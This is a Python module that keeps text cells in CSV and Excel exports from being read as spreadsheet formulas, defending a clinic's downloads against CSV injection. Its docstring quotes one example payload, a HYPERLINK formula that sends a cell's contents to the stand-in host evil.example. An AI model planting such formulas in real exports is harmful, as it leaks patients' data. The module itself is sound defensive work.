"""Text a person typed stays text in every spreadsheet we write (CSV and Excel).

A spreadsheet evaluates a cell that starts with `=` (and in a CSV also `+`, `-`, `@`, a tab or a
carriage return) as a formula: a patient named `=HYPERLINK("http://evil.example/?x="&A2,"Go")`
would be a live link, reading the sheet, in the file the clinic downloads ("CSV injection",
OWASP). So every writer passes every text cell through here, and nothing else:

- Excel: `xlsx_text` makes a string cell (an inline string, never a formula nor an error value
  like `#N/A`), so the text reads back exactly as typed. Characters a worksheet cannot hold
  (control characters) are dropped rather than failing the whole download.
- CSV: `csv_text` puts an apostrophe, which spreadsheets read as "this is text", before a
  formula character at the start of the cell, as OWASP advises (the full-width forms too, which
  some spreadsheets read as the ASCII ones). Also where `,` or `;` (optionally with spaces or
  quotes after it) comes right before one: a file written with `;` and opened where the list
  separator is `,` (or the other way round) is cut there into cells. The csv module quotes
  what holds the file's own separator.

Numbers, dates and times are not text: they never come here and stay numbers.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_STARTS = "=+-@\t\r\0\uff1d\uff0b\uff0d\uff20"  # full width: ＝ ＋ － ＠
_FORMULA_CELL = re.compile(f"(^|[,;][ \"]*)(?=[{re.escape(FORMULA_STARTS)}])")
_STARTS = frozenset(FORMULA_STARTS)
_NOT_IN_A_WORKSHEET = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")  # what XML 1.0 cannot hold


def csv_text(text: str) -> str:
    """The text as a CSV cell holds it: no formula can start in it, whatever the separator."""
    if text[:1] not in _STARTS and "," not in text and ";" not in text:
        return text  # most names: a year's file has tens of thousands of them
    return _FORMULA_CELL.sub(r"\1'", text)


def xlsx_text(sheet: Any, text: str) -> Any:
    """A cell for openpyxl's write-only `sheet` that holds `text` as a string, whatever it
    starts with (openpyxl would make `=…` a formula)."""
    from openpyxl.cell import WriteOnlyCell  # imported here: only the downloads need openpyxl

    cell = WriteOnlyCell(sheet, value=_NOT_IN_A_WORKSHEET.sub("", text))
    cell.data_type = "s"
    return cell
